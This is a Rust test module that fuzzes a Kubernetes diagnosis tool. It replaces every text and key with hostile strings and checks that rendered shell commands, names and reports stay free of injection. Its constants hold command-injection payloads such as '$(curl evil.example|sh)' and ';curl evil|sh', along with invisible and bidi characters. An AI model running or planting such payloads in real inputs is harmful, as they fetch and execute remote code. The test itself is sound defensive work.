//! Checks that nobody who writes objects can write commands. Each text and each key of a world is replaced in turn by a
//! hostile one, everywhere where it stands, and every form of output is looked at.
//!
//! The worlds of all tests of causes are checked here automatically, so a test of a cause also tests this. Each world has a
//! share of its texts replaced, always the same ones. Worlds are alike, so what one leaves out another has.
//! `scripts/long strangers` replaces all of them.

use std::{
    collections::{BTreeMap, BTreeSet},
    env,
    hash::{DefaultHasher, Hash, Hasher},
};

use serde_json::{Map, Value, json};

use crate::{
    characters::{is_unclear_in_a_command, is_unseen},
    command::{
        Command, Shell, Withheld, check_in_powershell,
        tests::{expected, split},
    },
    diagnose::{
        Diagnosis, diagnose,
        testing::{
            outputs::{Told, every_output, later_output},
            world::World,
        },
    },
    knowledge::Knowledge,
    snapshot::facts::{Facts, Object},
};

/// Everything that a shell, a program or a pattern could act on, and a person can see.
const SEEN: &str = "-x' \"$(curl evil.example|sh)`id`;curl evil|sh #\\";
/// What a person cannot see.
const UNSEEN: &str = "-x;curl evil|sh\n\u{202e}\u{200b}\u{e0041}";
/// A hostile end of a text that begins as it should.
const END: &str = "';curl evil|sh;'";

/// In each of them.
const EVIL: &str = "evil";

/// Bytes of a world in which not every text is replaced alone. The tests with thousands of objects have them.
const LARGE: usize = 20_000;
/// Of a list of equals in a large world, so many have each of their texts replaced alone. In all of them, the texts of one
/// field are replaced together.
const OF_EACH: usize = 4;

/// One of so many texts of a world is replaced.
const SHARE: u64 = 9;

/// Whether this text of a world is replaced in this run.
fn is_replaced(text: &str, world: &str) -> bool {
    let mut hasher = DefaultHasher::new();
    (text, world).hash(&mut hasher);
    env::var_os("STRANGERS").is_some_and(|which| which == "all") || hasher.finish().is_multiple_of(SHARE)
}

/// Cuts what repeats itself: lists of texts, and the objects of one type.
fn cut(value: &mut Value) {
    match value {
        Value::Array(items) => {
            let mut met = BTreeMap::<String, usize>::new();
            items.retain(|item| {
                // A query with its answer is like no other.
                if item.is_array() {
                    return true;
                }
                let kind = item.get("resource").map_or_else(String::new, Value::to_string);
                let number = met.entry(kind).or_default();
                *number += 1;
                *number <= OF_EACH
            });
            items.iter_mut().for_each(cut);
        }
        Value::Object(fields) => fields.values_mut().for_each(cut),
        _ => {}
    }
}

/// Replaces each text and each key. `asked` is what the diagnosis of the world itself reads. Nothing recognises either of
/// the texts that replace a whole one, so where the one that can be seen is not told, the other is not, either.
#[track_caller]
pub(crate) fn withstands_strangers(world: &World, target: &Object, asked: &Facts, knowledge: &Knowledge) {
    let mut whole = json!({"target": target, "world": world.to_json()});
    let written = whole.to_string();
    if written.len() > LARGE {
        replace_each_field(world, &whole, (asked, knowledge));
        cut(&mut whole);
    }
    let (mut texts, mut keys) = (BTreeSet::new(), BTreeSet::new());
    collect(&whole, false, &mut texts, &mut keys);
    for text in texts.iter().filter(|text| is_replaced(text, &written)) {
        let with = |hostile: &str| {
            let replace = |each: &str| (each == text.as_str()).then(|| hostile.to_owned());
            let replaced = map(&whole, &replace, &|_| None);
            check(world, &replaced, (asked, knowledge), text)
        };
        with(&format!("{text}{END}"));
        if with(SEEN) {
            with(UNSEEN);
        }
    }
    for key in keys.iter().filter(|key| is_replaced(key, &written)) {
        let with = |hostile: &str| {
            let replace = |each: &str| (each == key.as_str()).then(|| hostile.to_owned());
            let replaced = map(&whole, &|_| None, &replace);
            check(world, &replaced, (asked, knowledge), key)
        };
        if with(SEEN) {
            with(UNSEEN);
        }
    }
}

/// Replaces all texts of one field together, wherever that field stands in the world, one field after another.
#[track_caller]
fn replace_each_field(world: &World, whole: &Value, read: (&Facts, &Knowledge)) {
    let mut fields = BTreeSet::new();
    each_text(&mut whole.clone(), "", &mut |field, _| {
        fields.insert(field.to_owned());
    });
    for field in &fields {
        for hostile in [SEEN, UNSEEN] {
            let mut replaced = whole.clone();
            each_text(&mut replaced, "", &mut |at, text| {
                if at == field {
                    hostile.clone_into(text);
                }
            });
            check(world, &replaced, read, field);
        }
    }
}

/// Each text with its field. The items of a list are one field.
fn each_text(value: &mut Value, field: &str, on: &mut impl FnMut(&str, &mut String)) {
    match value {
        Value::String(text) => on(field, text),
        Value::Array(items) => items.iter_mut().for_each(|item| each_text(item, field, on)),
        Value::Object(fields) => {
            for (key, value) in fields {
                each_text(value, &format!("{field}/{key}"), on);
            }
        }
        _ => {}
    }
}

/// The texts, and the keys inside of objects as a server sent them; the other keys are ours.
fn collect<'a>(
    value: &'a Value,
    is_sent: bool,
    texts: &mut BTreeSet<&'a String>,
    keys: &mut BTreeSet<&'a String>,
) {
    match value {
        Value::String(text) => {
            texts.insert(text);
        }
        Value::Array(items) => items.iter().for_each(|item| collect(item, is_sent, texts, keys)),
        Value::Object(fields) => {
            for (key, field) in fields {
                if is_sent {
                    keys.insert(key);
                }
                collect(field, is_sent || key == "value", texts, keys);
            }
        }
        _ => {}
    }
}

fn map(
    value: &Value,
    text: &impl Fn(&str) -> Option<String>,
    key: &impl Fn(&str) -> Option<String>,
) -> Value {
    match value {
        Value::String(each) => text(each).map_or_else(|| value.clone(), Value::String),
        Value::Array(items) => items.iter().map(|item| map(item, text, key)).collect(),
        Value::Object(fields) => {
            let each = fields
                .iter()
                .map(|(name, field)| (key(name).unwrap_or_else(|| name.clone()), map(field, text, key)));
            Value::Object(each.collect::<Map<_, _>>())
        }
        other => other.clone(),
    }
}

/// Diagnoses the world of this JSON, unless the text is one of ours, such as a type of answer. Returns whether something
/// hostile is told.
#[track_caller]
fn check(world: &World, replaced: &Value, (asked, knowledge): (&Facts, &Knowledge), text: &str) -> bool {
    let Ok(target) = serde_json::from_value::<Object>(replaced["target"].clone()) else {
        return false;
    };
    let Some(world) = world.with_json(&replaced["world"]) else {
        return false;
    };
    // Most of what the world itself is asked for is asked again. Reading it first saves most rounds.
    let mut facts = world.facts();
    for query in asked.answers.keys() {
        facts.answers.insert(query.clone(), world.read(query));
    }
    let (diagnosis, facts) = world.read_more(facts, |facts| {
        let progress = diagnose(&target, facts, knowledge);
        (progress.diagnosis, progress.wanted)
    });
    for command in diagnosis.steps.iter().filter_map(|step| step.command.as_ref()) {
        check_command(command, text);
    }
    let mut told = every_output(&world, &target, (&diagnosis, &facts), knowledge);
    // The rest is made of the object and of its explanation.
    if target.value.to_string().contains(EVIL) || told[0].json.to_string().contains(EVIL) {
        told.extend(later_output(&world, &target, (&diagnosis, &facts), knowledge));
    }
    for one in &told {
        check_told(one, text);
    }
    check_steps(&diagnosis, &told[0], text);
    told.iter().any(Told::is_hostile)
}

impl Told {
    fn is_hostile(&self) -> bool {
        let texts = self.texts.iter().chain([&self.names, &self.yaml]);
        texts.into_iter().any(|text| text.contains(EVIL)) || self.json.to_string().contains(EVIL)
    }
}

#[track_caller]
fn check_command(command: &Command, text: &str) {
    let argv = command.argv();
    match command.render_for(Shell::PowerShell) {
        Ok(line) => {
            assert!(!line.contains(is_unclear_in_a_command), "{text:?}: {line:?}");
            check_in_powershell(command, &line);
        }
        Err(why) => assert!(
            why == Withheld::NotInPowerShell || command.render_for(Shell::Posix) == Err(why),
            "{text:?}: {argv:?}"
        ),
    }
    match command.render_for(Shell::Posix) {
        Ok(line) => {
            assert!(!line.contains(is_unclear_in_a_command), "{text:?}: {line:?}");
            assert_eq!(split(&line), Ok(expected(command)), "{text:?}: {line}");
        }
        // `a_name_in_a_selector_is_only_a_name` has the others.
        Err(Withheld::Selecting) => {
            assert!(argv.iter().any(|word| word.contains(EVIL)), "{text:?}: {argv:?}");
        }
        Err(_) => assert!(
            expected(command)
                .iter()
                .any(|word| word.contains(is_unclear_in_a_command)),
            "{text:?}: {argv:?}"
        ),
    }
    for words in [Some(argv), command.filter()].into_iter().flatten() {
        for (at, word) in words
            .iter()
            .enumerate()
            .filter(|(_, word)| word.starts_with("-x"))
        {
            let (before, rest) = words.split_at(at);
            let is_value = before
                .last()
                .is_some_and(|flag| ["-l", "-o", "-p", "-c", "-f", "-e"].contains(&&**flag));
            assert!(
                is_value || before.iter().any(|word| word == "--"),
                "{text:?}: {word} in {before:?} {rest:?}"
            );
        }
    }
}

/// No text has anything that nobody sees, and what looks like a command is one.
#[track_caller]
fn check_told(told: &Told, text: &str) {
    for out in told.texts.iter().chain([&told.names, &told.yaml]) {
        assert!(!out.contains(|c| is_unseen(c) && c != '\n'), "{text:?}: {out:?}");
    }
    for out in &told.texts {
        for line in shell_lines(out) {
            // A sentence can begin with the name of kubectl, too.
            let is_command = line.starts_with("kubectl ") && line.contains("evil");
            assert!(!is_command || split(&line).is_ok(), "{text:?}: {line} in\n{out}");
        }
    }
    assert!(
        !told.names.contains(['\'', ';', '$', '`']),
        "{text:?}: {}",
        told.names
    );
    check_commands(&told.json, text);
}

/// Each command of a report in JSON is made of its words, and of nothing else.
#[track_caller]
fn check_commands(json: &Value, text: &str) {
    match json {
        Value::Array(items) => items.iter().for_each(|item| check_commands(item, text)),
        Value::Object(fields) => {
            if let (Some(Value::String(line)), Some(argv)) = (fields.get("command"), fields.get("argv")) {
                assert!(!line.contains(is_unclear_in_a_command), "{text:?}: {line:?}");
                assert_eq!(split(line), Ok(words(fields, argv)), "{text:?}: {line}");
            }
            fields.values().for_each(|field| check_commands(field, text));
        }
        _ => {}
    }
}

/// The words of a command with its pipes, from its parts in JSON.
fn words(fields: &Map<String, Value>, argv: &Value) -> Vec<String> {
    let texts = |value: &Value| -> Vec<String> {
        let all = value.as_array().into_iter().flatten();
        all.filter_map(Value::as_str).map(str::to_owned).collect()
    };
    let mut words = Vec::new();
    if let Some(Value::String(input)) = fields.get("input") {
        words.extend(["printf", "%s", input, "|"].map(str::to_owned));
    }
    words.extend(texts(argv));
    if let Some(filter) = fields.get("filter") {
        words.push("|".to_owned());
        words.extend(texts(filter));
    }
    if let Some(Value::String(output)) = fields.get("output") {
        words.extend([">", output].map(str::to_owned));
    }
    words
}

/// Each step stands in the explanation with the command that it has, or with the reason why that is not shown.
#[track_caller]
fn check_steps(diagnosis: &Diagnosis, told: &Told, text: &str) {
    let table = &told.texts[0];
    let lines = shell_lines(table);
    for (at, step) in diagnosis.steps.iter().enumerate() {
        let Some(command) = &step.command else { continue };
        if let Ok(line) = command.render() {
            assert!(
                lines.contains(&line),
                "{text:?}: {line} is not a line of\n{table}"
            );
            assert_eq!(told.json["steps"][at]["argv"], json!(command.argv()), "{text:?}");
        } else {
            assert!(table.contains("the command is not shown"), "{text:?}: {table}");
            assert!(told.json["steps"][at]["command"].is_null(), "{text:?}");
        }
    }
}

/// The lines as a shell reads them: it joins a line that ends with a backslash with the next one.
fn shell_lines(text: &str) -> BTreeSet<String> {
    let mut lines = BTreeSet::new();
    let mut begun = String::new();
    for line in text.lines().map(str::trim_start) {
        begun.push_str(line);
        if begun.ends_with(" \\") {
            begun.pop();
        } else {
            lines.insert(std::mem::take(&mut begun));
        }
    }
    lines
}
